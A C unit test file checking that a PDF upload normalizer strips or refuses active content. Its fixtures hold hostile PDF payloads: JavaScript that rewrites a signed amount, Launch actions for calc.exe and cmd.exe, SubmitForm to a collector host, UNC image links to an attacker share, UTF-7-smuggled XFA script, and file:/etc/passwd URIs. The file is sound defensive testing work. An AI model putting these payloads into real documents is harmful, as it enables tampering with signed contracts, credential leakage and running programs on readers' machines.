/* test_pdf_normalize_active.c: an upload's scripts and actions (pdf/active.c, pdf/normalize.c). */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "pdf.h"
#include "pdf_int.h"
#include "test_pdf_normalize.h"

/* objs (count objects, the catalog first) made into a PDF and stored as an upload: asserted
   SP_OK, the stored copy in *n */
static void
stored(const char *const *objs, int count, struct pdf_normalized *n)
{
	struct pbuf b;
	struct sp_errinfo ei;

	make(&b, objs, count);
	sp_errinfo_init(&ei);
	ck_assert_msg(pdf_upload_normalize((unsigned char *)b.d, b.n, n, &ei) == SP_OK, "%s",
		      ei.msg);
}

/*
 * Scripts and actions that do more than move the view (pdf/active.c): each
 * party opens the stored upload, where a script on opening could show other
 * values than the signed appearance, send what is typed, or run a program.
 * The rewrite drops them wherever ISO 32000-2 puts actions (catalog, page,
 * annotation shared by two pages, field, widget, outline, a /Next chain);
 * a link to a web address and a move within the document stay. A signed
 * upload, which cannot be rewritten, is refused.
 */
START_TEST(active_content_dropped_or_refused)
{
	static const char *const objs[] = {
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC << /S /JavaScript "
		"/JS (app.alert\\(1\\)) >> >> /Names << /JavaScript 7 0 R >> /Outlines 8 0 R "
		"/AcroForm << /Fields [10 0 R] >> >>",
		"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /Launch /F "
		"(calc.exe) >> >> /Annots [5 0 R 11 0 R 12 0 R] >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [5 0 R] >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] "
		"/Next << /S /SubmitForm /F (http://collector.example/) >> >> >>",
		"<< /S /JavaScript /JS (this.getField\\(\"amount\"\\).value = 900) >>",
		"<< /Names [(a) << /S /JavaScript /JS (app.alert\\(2\\)) >>] >>",
		"<< /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>",
		"<< /Title (Terms) /Parent 8 0 R /A << /S /JavaScript /JS (app.alert\\(3\\)) >> >>",
		"<< /FT /Tx /T (amount) /Kids [12 0 R] /AA << /C << /S /JavaScript /JS "
		"(event.value "
		"= 900) >> /K << /S /GoTo /D [3 0 R /Fit] >> >> >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI "
		"(https://bank.example/terms) >> >>",
		"<< /Type /Annot /Subtype /Widget /Parent 10 0 R /P 3 0 R /Rect [0 0 10 10] /A << "
		"/S /ResetForm >> >>",
	};
	static const char *const gone[] = { "JavaScript", "app.alert", "event.value",
					    "/Launch",    "calc.exe",  "SubmitForm",
					    "collector",  "ResetForm", NULL };
	const char *sobjs[6];
	struct pbuf b;
	struct pdf_normalized n;
	struct sp_errinfo ei;
	int i;

	stored(objs, 12, &n);
	for (i = 0; gone[i] != NULL; i++)
		ck_assert_msg(memmem(n.data, n.len, gone[i], strlen(gone[i])) == NULL,
			      "the stored upload still carries %s", gone[i]);
	/* the open action, the document's trigger and scripts, the page's trigger, the
	   shared link's chain once, the outline item, the field's trigger, the widget */
	ck_assert_uint_eq(n.actions_removed, 8);
	ck_assert_int_eq(n.pages, 2);
	ck_assert_ptr_nonnull(memmem(n.data, n.len, "bank.example", 12));
	ck_assert_ptr_nonnull(memmem(n.data, n.len, "/K", 2));
	ck_assert_ptr_nonnull(memmem(n.data, n.len, "/Outlines", 9));
	pdf_normalized_cleanup(&n);

	/*
	 * Twelve actions, each moving the view, each naming the next eight times
	 * in its /Next list: 8^12 chains, each short and kept. The chain is
	 * judged within a count of items (past it: not kept), not path by path.
	 */
	{
		static char chain[12][160];
		const char *dag[15] = {
			"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
			"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
			"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
		};
		struct timespec t0, t1;

		for (i = 0; i < 12; i++) {
			int k = i + 5;
			if (i < 11)
				snprintf(chain[i], sizeof(chain[i]),
					 "<< /S /GoTo /D [3 0 R /Fit] /Next [%d 0 R %d 0 R %d 0 R "
					 "%d 0 "
					 "R %d 0 R %d 0 R %d 0 R %d 0 R] >>",
					 k, k, k, k, k, k, k, k);
			else
				snprintf(chain[i], sizeof(chain[i]),
					 "<< /S /GoTo /D [3 0 R /Fit] >>");
			dag[3 + i] = chain[i];
		}
		make(&b, dag, 15);
		clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t0);
		ck_assert_int_eq(pdf_upload_normalize((unsigned char *)b.d, b.n, &n, NULL), SP_OK);
		clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t1);
		ck_assert_msg(t1.tv_sec - t0.tv_sec < 2, "8^12 chains of /Next took %ld s of CPU",
			      (long)(t1.tv_sec - t0.tv_sec));
		ck_assert_uint_eq(n.actions_removed, 1);
		ck_assert_ptr_null(memmem(n.data, n.len, "/Next", 5));
		pdf_normalized_cleanup(&n);
	}

	/* nothing to drop: nothing counted */
	make(&b, unsigned_objs, 5);
	ck_assert_int_eq(pdf_upload_normalize((unsigned char *)b.d, b.n, &n, NULL), SP_OK);
	ck_assert_uint_eq(n.actions_removed, 0);
	pdf_normalized_cleanup(&n);

	/* signed: kept byte for byte, so refused, naming what it carries */
	memcpy(sobjs, signed_objs, sizeof(sobjs));
	sobjs[0] = "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> /OpenAction "
		   "<< /S /Launch /F (cmd.exe) >> >>";
	make(&b, sobjs, 6);
	sp_errinfo_init(&ei);
	ck_assert_int_eq(pdf_upload_normalize((unsigned char *)b.d, b.n, &n, &ei),
			 SP_ERR_UNSUPPORTED);
	ck_assert_str_eq(ei.reason, "pdf_active_content");
	ck_assert_msg(strstr(ei.msg, "Launch") != NULL, "%s", ei.msg);
	ck_assert_ptr_null(n.data);
	/* a move within the document is no such action */
	sobjs[0] = "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> /OpenAction "
		   "<< /S /GoTo /D [3 0 R /Fit] >> >>";
	make(&b, sobjs, 6);
	ck_assert_int_eq(pdf_upload_normalize((unsigned char *)b.d, b.n, &n, NULL), SP_OK);
	ck_assert_int_eq(n.kept, 1);
	pdf_normalized_cleanup(&n);
}
END_TEST

/* signed_objs with an XFA form: its catalog names stream 7, whose data is xml */
static int
signed_xfa(const char *xml, struct pdf_normalized *n, struct sp_errinfo *ei)
{
	static char stream[1024];
	const char *objs[SIGNED_OBJS + 1];
	struct pbuf b;

	memcpy(objs, signed_objs, sizeof(signed_objs));
	objs[0] = "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] /XFA [(preamble) 7 "
		  "0 R (template) 7 0 R] >> >>";
	snprintf(stream, sizeof(stream), "<< /Length %zu >>\nstream\n%s\nendstream", strlen(xml),
		 xml);
	objs[SIGNED_OBJS] = stream;
	make(&b, objs, SIGNED_OBJS + 1);
	sp_errinfo_init(ei);
	return pdf_upload_normalize((unsigned char *)b.d, b.n, n, ei);
}

/*
 * A signed static XFA form is kept byte for byte (an unsigned one loses its
 * XFA with the rewrite), and Adobe's viewers run its scripts as they run a
 * dynamic form's: on initialize, the amount field shows 900 whatever the
 * signed page says. A form whose XFA runs something is refused, as the
 * signed upload's actions are; one that runs nothing is kept.
 */
START_TEST(signed_xfa_form_with_scripts_refused)
{
	static const struct {
		const char *xml, *named;
	} refused[] = {
		{ "<template xmlns=\"http://www.xfa.org/schema/xfa-template/3.3/\"><subform><field "
		  "name=\"amount\"><event activity=\"initialize\"><script "
		  "contentType=\"application/x-javascript\">this.rawValue = "
		  "900;</script></event></field></subform></template>",
		  "XFA <event>" },
		/* a prefix, a calculation, no event */
		{ "<t:template xmlns:t=\"http://www.xfa.org/schema/xfa-template/3.3/\"><t:field "
		  "name=\"total\"><t:calculate><t:script>900</t:script></t:calculate></t:field>"
		  "</t:template>",
		  "XFA <script>" },
		/* '<' written as UTF-7's +ADw-: this reader would see no element */
		{ "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-template+AD4-+ADw-script+AD4-app."
		  "alert(1)+ADw-/script+AD4-+ADw-/template+AD4-",
		  "encoding UTF-7" },
		/* sec51: what the form shows or reads from elsewhere, whatever was signed: a
		   prototype from another file, an image from a share (NTLM) or a web server,
		   a ':' written as an entity, and the data connections an <execute> or a
		   field's <connect> reaches */
		{ "<template><subform><field name=\"amount\" "
		  "usehref=\"https://forms.example/terms.xdp#som($template.amount)\"/></subform>"
		  "</template>",
		  "XFA usehref" },
		{ "<template><subform><draw><value><image "
		  "href='\\\\attacker.example\\share\\seal.png'/></value></draw></subform>"
		  "</template>",
		  "XFA href" },
		{ "<template><draw><value><image href=\"http://img.example/seal.png\"/></value>"
		  "</draw></template>",
		  "XFA href" },
		{ "<template><draw><value><x:image xmlns:x=\"x\" x:href=\"http&#58;//img.example/"
		  "\"/></value></draw></template>",
		  "XFA href" },
		{ "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><connectionSet><wsdlConnection "
		  "name=\"rates\"><soapAddress>https://rates.example/ws</soapAddress>"
		  "</wsdlConnection></connectionSet></xdp:xdp>",
		  "XFA <connectionSet>" },
		{ "<sourceSet><source name=\"db\"><connect><connectString>Provider=SQLOLEDB"
		  "</connectString></connect></source></sourceSet>",
		  "XFA <sourceSet>" },
	};
	struct pdf_normalized n;
	struct sp_errinfo ei;
	size_t i;

	for (i = 0; i < sizeof(refused) / sizeof(refused[0]); i++) {
		ck_assert_msg(signed_xfa(refused[i].xml, &n, &ei) == SP_ERR_UNSUPPORTED,
			      "case %zu: the signed XFA form was kept: %s", i, ei.msg);
		ck_assert_str_eq(ei.reason, "pdf_active_content");
		ck_assert_msg(strstr(ei.msg, refused[i].named) != NULL, "case %zu: %s", i, ei.msg);
		ck_assert_ptr_null(n.data);
	}
	/* a form that runs nothing (a <scripts> element is no <script>), and uses within
	   itself, an image by the relative name Designer looks up in /XFAImages */
	ck_assert_msg(signed_xfa("<?xml version=\"1.0\" encoding=\"UTF-8\"?><template><subform "
				 "name=\"scripts\"><field name=\"a\" usehref=\"#f1\"/><field "
				 "name=\"b\" usehref=\".#som($template.a)\"/><draw><value><image "
				 "href=\"images/seal:1.png\"/></value></draw></subform></template>",
				 &n, &ei) == SP_OK,
		      "%s", ei.msg);
	ck_assert_int_eq(n.kept, 1);
	pdf_normalized_cleanup(&n);
}
END_TEST

/*
 * review54: an XFA form's references as Adobe resolves them. The config
 * packet's <template><base> (XFA 3.3, config common: "the base location for
 * URIs in the template") makes a relative image name, which stays because
 * Designer writes it for /XFAImages, an address on a share or a web server:
 * the name is judged alone, its base never. And a rich-text hyperlink
 * (<exData contentType="text/html">, XHTML <a href>, Designer's Insert >
 * Hyperlink) opens nothing unless clicked, as a /URI link, which a signed
 * upload keeps for http, https and mailto: refusing it refuses real forms.
 */
START_TEST(signed_xfa_form_base_makes_a_name_an_address)
{
	struct pdf_normalized n;
	struct sp_errinfo ei;

	ck_assert_msg(signed_xfa("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><config><common>"
				 "<template><base>\\\\attacker.example\\share\\</base>"
				 "</template></common></config><template><draw><value><image "
				 "href=\"seal.png\"/></value></draw></template></xdp:xdp>",
				 &n, &ei) == SP_ERR_UNSUPPORTED,
		      "the image seal.png, under the base \\\\attacker.example\\share, was kept "
		      "(kept %d)",
		      n.kept);
	ck_assert_str_eq(ei.reason, "pdf_active_content");
	pdf_normalized_cleanup(&n);
}
END_TEST

/* review54: see signed_xfa_form_base_makes_a_name_an_address */
START_TEST(signed_xfa_form_text_hyperlink_kept)
{
	struct pdf_normalized n;
	struct sp_errinfo ei;

	ck_assert_msg(signed_xfa("<template><draw><value><exData contentType=\"text/html\"><body "
				 "xmlns=\"http://www.w3.org/1999/xhtml\"><p>See <a "
				 "href=\"https://www.example.com/terms\">the terms</a></p></body>"
				 "</exData></value></draw></template>",
				 &n, &ei) == SP_OK,
		      "a signed form with a hyperlink in its text was refused: %s", ei.msg);
	ck_assert_int_eq(n.kept, 1);
	pdf_normalized_cleanup(&n);
}
END_TEST

/*
 * A 3D model (its /3DD stream's scripts), rich media, a movie or a sound is
 * what its annotation shows: there is no action to drop, and removing it
 * changes the page. Refused, signed upload or not, naming it.
 */
START_TEST(media_annotations_refused)
{
	static const char *const types[] = { "3D", "RichMedia", "Movie", "Sound" };
	char annot[160];
	const char *objs[SIGNED_OBJS + 1];
	struct pbuf b;
	struct pdf_normalized n;
	struct sp_errinfo ei;
	size_t i;
	int sig;

	for (i = 0; i < sizeof(types) / sizeof(types[0]); i++)
		for (sig = 0; sig < 2; sig++) {
			memcpy(objs, sig ? signed_objs : unsigned_objs,
			       sig ? sizeof(signed_objs) : sizeof(unsigned_objs));
			snprintf(annot, sizeof(annot),
				 "<< /Type /Annot /Subtype /%s /Rect [0 0 100 100] /P 3 0 R >>",
				 types[i]);
			objs[2] = sig ? "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
					"/Annots [4 0 R 7 0 R] >>"
				      : "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
					"/Annots [6 0 R] >>";
			objs[sig ? SIGNED_OBJS : UNSIGNED_OBJS] = annot;
			make(&b, objs, (sig ? SIGNED_OBJS : UNSIGNED_OBJS) + 1);
			sp_errinfo_init(&ei);
			ck_assert_msg(pdf_upload_normalize((unsigned char *)b.d, b.n, &n, &ei) ==
					      SP_ERR_UNSUPPORTED,
				      "%s upload with a %s annotation was stored",
				      sig ? "a signed" : "an unsigned", types[i]);
			ck_assert_str_eq(ei.reason, "pdf_active_content");
			ck_assert_msg(strstr(ei.msg, types[i]) != NULL, "%s", ei.msg);
			ck_assert_ptr_null(n.data);
		}
}
END_TEST

#ifndef __SANITIZE_ADDRESS__
/*
 * The largest block asked of malloc, calloc or realloc while armed (the
 * code under test's and qpdf's, through operator new). Not under ASan,
 * whose allocator this would replace.
 */
/* NOLINTBEGIN(bugprone-reserved-identifier,cert-dcl37-c,cert-dcl51-cpp): glibc's names */
void *__libc_malloc(size_t n);
void *__libc_calloc(size_t n, size_t k);
void *__libc_realloc(void *p, size_t n);
/* NOLINTEND(bugprone-reserved-identifier,cert-dcl37-c,cert-dcl51-cpp) */
static size_t largest;
static int armed;

static void
asked(size_t n)
{
	if (armed && n > largest)
		largest = n;
}

void *
malloc(size_t n)
{
	asked(n);
	return __libc_malloc(n);
}

void *
calloc(size_t n, size_t k)
{
	asked(k != 0 && n > (size_t)-1 / k ? (size_t)-1 : n * k);
	return __libc_calloc(n, k);
}

void *
realloc(void *p, size_t n)
{
	asked(n);
	return __libc_realloc(p, n);
}
#endif

/*
 * The walk for actions keeps a bit per object it has visited: for a small
 * contract a small table, not one for the most objects any file may have
 * (PDF_DOC_MAX_OBJECTS: 500 KB zeroed at every upload, more work than the
 * walk itself).
 */
START_TEST(actions_walk_memory_follows_the_file)
{
#ifndef __SANITIZE_ADDRESS__
	const char *pre = getenv("LD_PRELOAD");
	struct pbuf b;
	struct pdf_doc *doc = NULL;
	struct sp_errinfo ei;
	int objs[4], i;
	size_t found = 0;

	/* (valgrind's preloaded allocator stands in front of these, as ASan's would) */
	if (pre != NULL && strstr(pre, "vgpreload") != NULL)
		return;
	make(&b, unsigned_objs, UNSIGNED_OBJS);
	sp_errinfo_init(&ei);
	ck_assert_int_eq(pdf_doc_open((unsigned char *)b.d, b.n, &doc, &ei), SP_OK);
	ck_assert_int_eq(doc->npages, 2);
	for (i = 0; i < 2; i++) {
		objs[2 * i] = qpdf_oh_get_object_id(doc->q, doc->pages[i]);
		objs[2 * i + 1] = 0;
	}
	largest = 0;
	armed = 1;
	ck_assert_int_eq(pdf_actions_find(doc->q, objs, 2, 0, &found, NULL, 0, &ei), SP_OK);
	armed = 0;
	pdf_doc_free(doc);
	ck_assert_msg(largest < 64 * 1024,
		      "the walk of a %zu-byte upload of 5 objects asked for a block of %zu bytes",
		      b.n, largest);
#endif
}
END_TEST

/*
 * One object in two roles (review50): the walk marks each indirect object
 * it visits once, whatever role it was visited in. An annotation met on
 * page 1 is also page 2's additional-actions dictionary (its /O runs when
 * page 2 opens) and the outline's first item (its /Next the item that runs
 * a script from the bookmarks). Visited as an annotation, only its /A and
 * /AA were read; met again as the trigger dictionary and the outline item,
 * it is skipped, and its /O and the rest of the outline are never looked at.
 */
START_TEST(active_content_in_an_object_of_two_roles)
{
	static const char *const objs[] = {
		"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>",
		"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [5 0 R] >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA 5 0 R >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] "
		">> "
		"/O << /S /JavaScript /JS (app.alert\\(page2\\)) >> /Title (Terms) /Parent 6 0 R "
		"/Next 7 0 R >>",
		"<< /Type /Outlines /First 5 0 R /Last 7 0 R /Count 2 >>",
		"<< /Title (Annex) /Parent 6 0 R /Prev 5 0 R /A << /S /Launch /F (calc.exe) >> >>",
	};
	struct pdf_normalized n;

	stored(objs, 7, &n);
	ck_assert_msg(memmem(n.data, n.len, "app.alert", 9) == NULL,
		      "the stored upload still runs a script when page 2 opens "
		      "(%zu actions removed)",
		      n.actions_removed);
	ck_assert_msg(memmem(n.data, n.len, "calc.exe", 8) == NULL,
		      "the stored upload's second outline item still launches a program "
		      "(%zu actions removed)",
		      n.actions_removed);
	ck_assert_uint_eq(n.actions_removed, 2);
	pdf_normalized_cleanup(&n);
}
END_TEST

/*
 * A widget's field that the form's /Fields does not list (review50): the
 * widget, on the page, names its field with /Parent, and the field holds the
 * keystroke script. A viewer reads a widget's triggers from the widget and
 * every field above it (ISO 32000-2 §12.7.4: a field's /AA is the
 * widget's; pdf.js collectActions takes /AA through /Parent), so the script
 * runs as the party types. The walk reads the widget's own /A and /AA and
 * the field tree from /Fields: the field above the widget is never read.
 */
START_TEST(active_content_in_a_widgets_unlisted_field)
{
	static const char *const objs[] = {
		"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] >> >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
		"<< /Type /Annot /Subtype /Widget /Parent 5 0 R /P 3 0 R /Rect [0 0 10 10] >>",
		"<< /FT /Tx /T (amount) /Kids [4 0 R] /AA << /K << /S /JavaScript /JS "
		"(event.value = 900) >> >> >>",
	};
	struct pdf_normalized n;

	stored(objs, 5, &n);
	ck_assert_msg(memmem(n.data, n.len, "event.value", 11) == NULL,
		      "the stored upload's widget still runs its field's keystroke script "
		      "(%zu actions removed)",
		      n.actions_removed);
	pdf_normalized_cleanup(&n);
}
END_TEST

/*
 * An action written as an array of actions (review50): pdf.js reads a
 * trigger's value, a widget's /A and every /Next through arrays, nested or
 * not (core_utils.js _collectJS: "if (Array.isArray(entry)) for each
 * element"), and runs each JavaScript action it finds there. The walk takes
 * an array for a destination (no action) and keeps it: a page's open trigger,
 * a widget's keystroke trigger and a link's /Next, each an array holding a
 * script, stay in the stored upload.
 */
START_TEST(active_content_in_arrays_of_actions)
{
	static const char *const objs[] = {
		"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R 5 0 R] /AA "
		"<< /O [<< /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] "
		"/Next [[<< /S /JavaScript /JS (app.alert\\(2\\)) >>]] >> >>",
		"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /P 3 0 R /Rect [0 0 10 10] "
		"/AA << /K [<< /S /JavaScript /JS (event.value = 900) >>] >> >>",
	};
	struct pdf_normalized n;

	stored(objs, 5, &n);
	ck_assert_msg(memmem(n.data, n.len, "JavaScript", 10) == NULL,
		      "the stored upload still holds scripts in arrays of actions "
		      "(%zu actions removed)",
		      n.actions_removed);
	pdf_normalized_cleanup(&n);
}
END_TEST

/*
 * A /URI link opens what its address names: a web page, a mail, a phone
 * number or a relative web address stays; a javascript: address (run by the
 * browser it is handed to), a file: one, an absolute path and a UNC path (a
 * remote share, answered on Windows with the reader's credentials) are
 * removed like any action that does more than move the view.
 */
START_TEST(uri_actions_keep_only_web_and_mail_addresses)
{
	static const char *const objs[] = {
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R 5 0 R 6 0 R 7 "
		"0 R 8 0 R 9 0 R 10 0 R 11 0 R] >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI "
		"(https://bank.example/terms) >> >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 10 10 20] /A << /S /URI /URI "
		"(MAILTO:legal@bank.example) >> >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 20 10 30] /A << /S /URI /URI "
		"(javascript:app.alert\\(1\\)) >> >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 30 10 40] /A << /S /URI /URI "
		"(file:///C:/Windows/System32/calc.exe) >> >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 40 10 50] /A << /S /URI /URI "
		"(\\\\\\\\collector.example\\\\share\\\\x.png) >> >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 50 10 60] /A << /S /GoTo /D [3 0 R /Fit] "
		"/Next << /S /URI /URI <66696c653a2f2f2f6574632f706173737764> >> >> >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 60 10 70] /A << /S /URI /URI "
		"(www.bank.example/annex) >> /AA << /U << /S /URI /URI (tel:+861012345678) >> >> "
		">>",
		"<< /Type /Annot /Subtype /Link /Rect [0 70 10 80] /A << /S /URI /URI "
		"(//relay.example/share/y.png) >> /AA << /U << /S /URI /URI (/etc/passwd) >> >> >>",
	};
	static const char *const gone[] = { "javascript:", "calc.exe", "collector", "66696c65",
					    "file:",       "relay",    "passwd",    NULL };
	struct pdf_normalized n;
	int i;

	stored(objs, 11, &n);
	for (i = 0; gone[i] != NULL; i++)
		ck_assert_msg(memmem(n.data, n.len, gone[i], strlen(gone[i])) == NULL,
			      "the stored upload still opens %s (%zu actions removed)", gone[i],
			      n.actions_removed);
	ck_assert_ptr_nonnull(memmem(n.data, n.len, "https://bank.example/terms", 26));
	ck_assert_ptr_nonnull(memmem(n.data, n.len, "MAILTO:legal@bank.example", 25));
	ck_assert_ptr_nonnull(memmem(n.data, n.len, "www.bank.example/annex", 22));
	ck_assert_ptr_nonnull(memmem(n.data, n.len, "tel:+861012345678", 17));
	ck_assert_uint_eq(n.actions_removed, 6);
	pdf_normalized_cleanup(&n);
}
END_TEST

/*
 * sec51: a portfolio (/Collection) that Acrobat opens to one of its
 * attachments (/View /H, /D) instead of the pages every other viewer and the
 * signature show: an unsigned upload loses it and keeps the attachment as
 * an attachment; a signed one is refused, naming it.
 */
START_TEST(portfolio_view_dropped_or_refused)
{
	const char *objs[SIGNED_OBJS + 2];
	struct pdf_normalized n;
	struct sp_errinfo ei;
	struct pbuf b;

	memcpy(objs, unsigned_objs, sizeof(unsigned_objs));
	objs[0] = "<< /Type /Catalog /Pages 2 0 R /Collection << /Type /Collection /D (terms.pdf) "
		  "/View /H >> /Names << /EmbeddedFiles << /Names [(terms.pdf) 6 0 R] >> >> >>";
	objs[UNSIGNED_OBJS] = "<< /Type /Filespec /F (terms.pdf) /UF (terms.pdf) /EF << /F 7 0 R "
			      ">> >>";
	objs[UNSIGNED_OBJS + 1] =
		"<< /Type /EmbeddedFile /Length 8 >>\nstream\n%PDF-1.7\nendstream";
	stored(objs, UNSIGNED_OBJS + 2, &n);
	ck_assert_msg(memmem(n.data, n.len, "/Collection", 11) == NULL,
		      "the stored upload still opens in Acrobat as its attachment terms.pdf "
		      "(%zu actions removed)",
		      n.actions_removed);
	ck_assert_uint_eq(n.actions_removed, 1);
	ck_assert_ptr_nonnull(memmem(n.data, n.len, "/EmbeddedFiles", 14));
	pdf_normalized_cleanup(&n);

	memcpy(objs, signed_objs, sizeof(signed_objs));
	objs[0] = "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> /Collection << "
		  "/Type /Collection /View /H >> >>";
	make(&b, objs, SIGNED_OBJS);
	sp_errinfo_init(&ei);
	ck_assert_msg(pdf_upload_normalize((unsigned char *)b.d, b.n, &n, &ei) ==
			      SP_ERR_UNSUPPORTED,
		      "the signed portfolio was kept: %s", ei.msg);
	ck_assert_str_eq(ei.reason, "pdf_active_content");
	ck_assert_msg(strstr(ei.msg, "/Collection") != NULL, "%s", ei.msg);
}
END_TEST

void
pdf_normalize_active_add(TCase *tc)
{
	tcase_add_test(tc, active_content_dropped_or_refused);
	tcase_add_test(tc, signed_xfa_form_with_scripts_refused);
	tcase_add_test(tc, signed_xfa_form_base_makes_a_name_an_address);
	tcase_add_test(tc, signed_xfa_form_text_hyperlink_kept);
	tcase_add_test(tc, media_annotations_refused);
	tcase_add_test(tc, actions_walk_memory_follows_the_file);
	tcase_add_test(tc, active_content_in_an_object_of_two_roles);
	tcase_add_test(tc, active_content_in_a_widgets_unlisted_field);
	tcase_add_test(tc, active_content_in_arrays_of_actions);
	tcase_add_test(tc, uri_actions_keep_only_web_and_mail_addresses);
	tcase_add_test(tc, portfolio_view_dropped_or_refused);
}
